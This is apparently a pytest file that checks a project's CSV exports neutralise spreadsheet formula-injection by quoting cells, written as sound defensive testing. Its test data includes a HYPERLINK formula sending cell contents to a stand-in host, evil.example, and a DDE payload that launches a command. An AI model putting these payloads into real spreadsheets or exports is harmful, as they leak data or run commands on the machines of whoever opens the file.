"""Every CSV the project writes neutralises cells a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from zoneinfo import ZoneInfo

import pytest
from sqlmodel import Session

from kooperation.config import Settings
from kooperation.csvcells import neutralise, restore
from kooperation.services import introductions, reporting, review
from kooperation.services.exporter import export_listings_csv
from tests import factories as seed

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
    "+49 341 123",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab GmbH",
    "\rCR GmbH",
]

BERLIN = ZoneInfo("Europe/Berlin")


@pytest.mark.parametrize("value", EVIL)
def test_a_formula_start_gets_a_leading_quote_that_import_takes_off_again(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["Zellwerk GmbH", "'quoted", "", "a=b", 3, 0.5, True])
def test_harmless_cells_stay_as_they_are(value: object) -> None:
    assert neutralise(value) == value
    if isinstance(value, str):
        assert restore(value) == value


def _cells(content: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content)) for cell in row]


def test_listings_export_neutralises_member_entered_cells(session: Session) -> None:
    org = seed.organization(
        session, EVIL[0], "it", contact_name="@admin", contact_email="-x@y.de", region="+Halle"
    )
    seed.listing(session, org, "need", "=1+1 Wir suchen einen Partner für Tests")
    cells = _cells(export_listings_csv(session=session, tz=BERLIN))
    assert "'" + EVIL[0] in cells
    assert {"'@admin", "'-x@y.de", "'+Halle", "'=1+1 Wir suchen einen Partner für Tests"} <= set(
        cells
    )
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_introductions_export_neutralises_organization_names_and_titles(
    session: Session, settings: Settings
) -> None:
    need_contact, offer_contact, match = seed.two_sided(session, 1000)
    need = session.get(seed.Listing, match.need_id)
    need.title = "=cmd|' /C calc'!A0"
    session.add(need)
    session.commit()
    manager = seed.manager(session, 50, "logistics", name="@Maria")
    review.approve_match(session=session, settings=settings, member=manager, match_id=match.id)
    for member in (need_contact, offer_contact):
        introductions.answer_introduction(
            session=session, member=member, match_id=match.id, accept=True
        )
    out = io.StringIO()
    reporting.write_csv(reporting.introduction_rows(session=session, tz=BERLIN), out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["need_title"] == "'=cmd|' /C calc'!A0"
    assert row["decided_by"] == "'@Maria"
    assert row["score"].replace(".", "").isdigit()  # numbers are not quoted
    assert row["proposed_at"][-6:] in {"+01:00", "+02:00"}  # Berlin time, not UTC
